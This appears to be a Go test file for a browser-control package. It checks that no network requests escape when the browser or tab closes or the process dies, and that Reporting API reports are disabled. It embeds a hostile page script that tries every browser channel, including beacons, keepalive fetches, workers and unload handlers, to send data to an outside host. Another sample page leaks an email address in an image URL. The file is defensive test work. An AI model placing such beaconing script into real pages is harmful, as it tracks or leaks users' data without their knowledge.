package chrome

import (
	"net/http"
	"strings"
	"testing"
	"time"
)

// restless sends all the time, by whatever outlives a page: it is what stands
// open when the browser is closed, or when the program dies.
const restless = `<body><h1>Restless</h1><script>
const go = (way) => {
	const to = 'https://www.facebook.com/sent/' + way;
	fetch(to + '-fetch', {method: 'POST', keepalive: true, body: 'x'}).catch(() => {});
	navigator.sendBeacon(to + '-beacon', 'x');
	new Image().src = to + '-image?' + Math.random();
	try { const x = new XMLHttpRequest(); x.open('POST', to + '-xhr', way === 'leave'); x.send('x') } catch {}
	try { new WebSocket(to.replace('https', 'wss') + '-socket') } catch {}
	try { fetchLater(to + '-later', {method: 'POST', activateAfter: way === 'leave' ? undefined : 0}) } catch {}
};
var worker = new Worker(URL.createObjectURL(new Blob(['setInterval(() => { fetch("https://www.facebook.com/sent/worker", {method: "POST", keepalive: true}).catch(() => {}) }, 5)'])));
for (const type of ['pagehide', 'visibilitychange', 'beforeunload', 'unload', 'freeze']) addEventListener(type, () => go('leave'));
setInterval(() => go('timer'), 5);
setInterval(() => { const f = document.createElement('form'); f.method = 'post'; f.action = '/sent/form'; document.body.append(f); f.submit() }, 7);
</script>`

// TestEnds: nothing leaves when the browser is closed in order, when its tab is,
// or when this program dies. Its request gate dies with it, and the browser, which
// ends because its pipe is cut, lives for a quarter of a second without one
// (measured, Chromium 156); but the outlet is shut, and then gone.
func TestEnds(t *testing.T) {
	if !*thorough {
		t.Skip("measures, and takes long: run with -thorough")
	}
	for _, end := range []string{"close", "tab", "cut", "kill"} {
		t.Run(end, func(t *testing.T) {
			t.Parallel()
			o := options(t)
			w, err := serveWeb()
			if err != nil {
				t.Fatal(err)
			}
			defer w.close()
			h, err := newHand()
			if err != nil {
				t.Fatal(err)
			}
			o.Args = append(w.args(), h.arg())
			b := started(t, o)
			if err := b.Open(t.Context(), w.page(`<h1>calm</h1>`)); err != nil {
				t.Fatal(err)
			}
			b.net.to(locked)
			tab := h.on(t)
			tab.try("document.open(); document.write(" + "`" + strings.ReplaceAll(restless, "`", "") + "`" + ")")
			if !until(t, 20*time.Second, "the page tries", func() bool { return len(b.Attempts()) > 50 }) {
				t.FailNow()
			}
			pid := b.proc.cmd.Process.Pid
			switch end {
			case "close":
			case "tab":
				_, _ = tab.call("Page.close", nil)
				quiet(t, 300*time.Millisecond, func() bool { return false })
			case "cut":
				b.proc.pipe.Close()
			case "kill":
				b.proc.pipe.out.Close() // as the kernel does for a process that is killed
			}
			if end == "cut" || end == "kill" {
				begin := time.Now()
				until(t, 20*time.Second, "the browser ends when its pipe does", func() bool { return !alive(pid) })
				t.Logf("the browser ended after %s", time.Since(begin).Round(time.Millisecond))
			}
			if err := b.Close(); err != nil {
				t.Error(err)
			}
			quiet(t, 100*time.Millisecond, func() bool { return false })
			got := w.counted()
			t.Logf("got out: %v", got)
			if len(got) > 0 {
				t.Errorf("got out: %v", got)
			}
		})
	}
}

// TestReports: the browser sends reports of its own for a page (Reporting API), up
// to a minute later, which belong to no request that anybody could ask about. They
// are switched off; the control shows that they would leave.
func TestReports(t *testing.T) {
	if !*thorough {
		t.Skip("takes two more browsers: run with -thorough")
	}
	for name, off := range map[string]locks{"launch": 0, "control": lockBrakes | lockOutlet} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			o := options(t)
			w, err := serveWeb()
			if err != nil {
				t.Fatal(err)
			}
			defer w.close()
			w.server.Handler = http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
				rw.Header().Set("Reporting-Endpoints", `e="https://www.facebook.com/sent/report"`)
				rw.Header().Set("Content-Security-Policy", `img-src 'none'; report-to e`)
				w.ServeHTTP(rw, r)
			})
			o.Args, o.off = append(w.args(), "short-reporting-delay"), off
			b := started(t, o)
			if err := b.Open(t.Context(), w.page(`<script>new Image().src = 'https://elsewhere.example/x?`+email+`'</script>`)); err != nil {
				t.Fatal(err)
			}
			left := func() bool { return w.counted()["report"] > 0 }
			if off == 0 && !quiet(t, 3*time.Second, left) {
				t.Error("a report left")
			}
			if off != 0 {
				until(t, 20*time.Second, "a report leaves, or this proves nothing", left)
			}
		})
	}
}
